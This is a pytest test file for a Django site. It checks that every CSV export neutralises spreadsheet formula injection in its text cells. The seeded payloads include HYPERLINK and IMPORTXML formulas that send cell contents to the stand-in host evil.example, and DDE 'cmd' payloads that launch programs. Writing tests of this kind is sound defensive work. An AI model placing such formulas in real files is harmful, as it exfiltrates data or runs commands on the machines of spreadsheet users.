"""Every CSV the Hub serves, public or staff-only, neutralises formulas in its text cells.

Formula payloads are put in every kind of text that reaches a CSV (a proposal's title and
organisation, a consultation's title and body, an ask, its department and evidence, a place's and a
work area's name, a claim's headline, an indicator's name); then every routed view in the
expected-status table is fetched as the secretariat, as it is and with `format=csv`, and every CSV
answer is read cell by cell.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings
from django.core.cache import cache
from django.http import HttpResponse
from django.test import Client

from keycities.core.spreadsheet import FORMULA_START, NUMBER, safe_cell
from keycities.tests.access import data, rows, url

pytestmark = pytest.mark.django_db

PAYLOADS = {
    "proposal title": '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "proposal organisation": "@SUM(1+9)*cmd|' /C calc'!A0",
    "proposal summary": "+1+1",
    "consultation title": "=cmd|' /C notepad'!A0",
    "consultation body": "-2+3",
    "ask": '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "ask department": "\t=1+2",
    "ask evidence": "\r=3+4",
    "place name": "=2+5",
    "work area name": "@work",
    "claim headline": "=claim()",
    "indicator name": "-population+1",
}


def seed(world: dict[str, Any]) -> None:
    from keycities.claims.models import Claim
    from keycities.consultations import services as consultations
    from keycities.network.models import Place, WorkArea
    from keycities.observatory.models import Indicator
    from keycities.proposals.models import Proposal

    Proposal.objects.filter(pk=world["proposal"].pk).update(
        title=PAYLOADS["proposal title"], organisation=PAYLOADS["proposal organisation"],
        summary=PAYLOADS["proposal summary"])  # fmt: skip
    published = world["published"]
    type(published).objects.filter(pk=published.pk).update(title=PAYLOADS["consultation title"],
                                                           body_name=PAYLOADS["consultation body"])  # fmt: skip
    ask = consultations.add_ask(published, "An ask", "HM Treasury", None, by=None)
    type(ask).objects.filter(pk=ask.pk).update(text=PAYLOADS["ask"], department=PAYLOADS["ask department"],
                                               evidence=PAYLOADS["ask evidence"])  # fmt: skip
    Place.objects.filter(slug="hull").update(name=PAYLOADS["place name"])
    WorkArea.objects.filter(slug="skills").update(name=PAYLOADS["work area name"])
    Claim.objects.filter(pk=world["claim"].pk).update(headline=PAYLOADS["claim headline"])
    Indicator.objects.filter(slug="population").update(name=PAYLOADS["indicator name"])


def is_csv(response: HttpResponse) -> bool:
    return response.status_code == 200 and response.get("Content-Type", "").startswith("text/csv")


def text(response: HttpResponse) -> str:
    body = b"".join(response.streaming_content) if response.streaming else response.content  # type: ignore[attr-defined]
    return body.decode()


def dangerous(cell: str) -> bool:
    return cell.startswith(FORMULA_START) and not NUMBER.fullmatch(cell)


def test_every_csv_neutralises_formulas_in_every_text_cell(access_world: dict[str, Any]) -> None:
    seed(access_world)
    client = Client()
    client.force_login(access_world["users"]["secretariat"])
    found: dict[str, list[list[str]]] = {}
    for row in rows():
        if row.method != "GET":
            continue
        address = url(row, access_world)
        for candidate in (address, address + ("&" if "?" in address else "?") + "format=csv"):
            cache.clear()
            response = client.get(candidate, data(row, access_world))
            if is_csv(response):
                found[candidate] = list(csv.reader(io.StringIO(text(response))))
    compare = "/evidence/compare/?indicator=population&groups=key-cities&places=hull&format=csv"
    found[compare] = list(csv.reader(io.StringIO(text(client.get(compare)))))

    # The CSVs there are: every one of them was reached.
    reached = {re.sub(r"\?.*", "", u) for u in found}
    for expected in ("/proposals/export.csv", "/consultations/asks.csv", "/api/v1/proposals/", "/api/v1/places/",
                     "/api/v1/work-areas/", "/api/v1/indicators/", "/api/v1/data", "/api/v1/claims/",
                     "/api/v1/consultations/", "/api/v1/asks/", "/evidence/places/coventry/profile.csv",
                     "/evidence/population/series.csv", "/evidence/compare/"):  # fmt: skip
        assert expected in reached, expected
    assert any(u.startswith("/api/v1/download/") for u in reached)

    unsafe = [(u, cell) for u, table in found.items() for line in table for cell in line if dangerous(cell)]
    assert unsafe == []
    cells = {cell for table in found.values() for line in table for cell in line}
    for what, payload in PAYLOADS.items():
        assert safe_cell(payload) in cells or any(safe_cell(payload) in c for c in cells), what


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("-3.25", "-3.25"), ("+44", "+44"), ("1e-5", "1e-5"), ("-", "'-"), (-3.25, -3.25),
    (None, ""), ("Hull", "Hull"), ("", ""), ("a=b", "a=b"),
])  # fmt: skip
def test_safe_cell(value: object, cell: object) -> None:
    assert safe_cell(value) == cell


def test_nothing_writes_csv_except_through_the_core_helper() -> None:
    code = Path(settings.BASE_DIR) / "keycities"
    writers = [str(p.relative_to(code)) for p in code.rglob("*.py")
               if "tests" not in p.parts and re.search(r"csv\.(writer|DictWriter)\(", p.read_text())]  # fmt: skip
    assert writers == ["core/spreadsheet.py"]
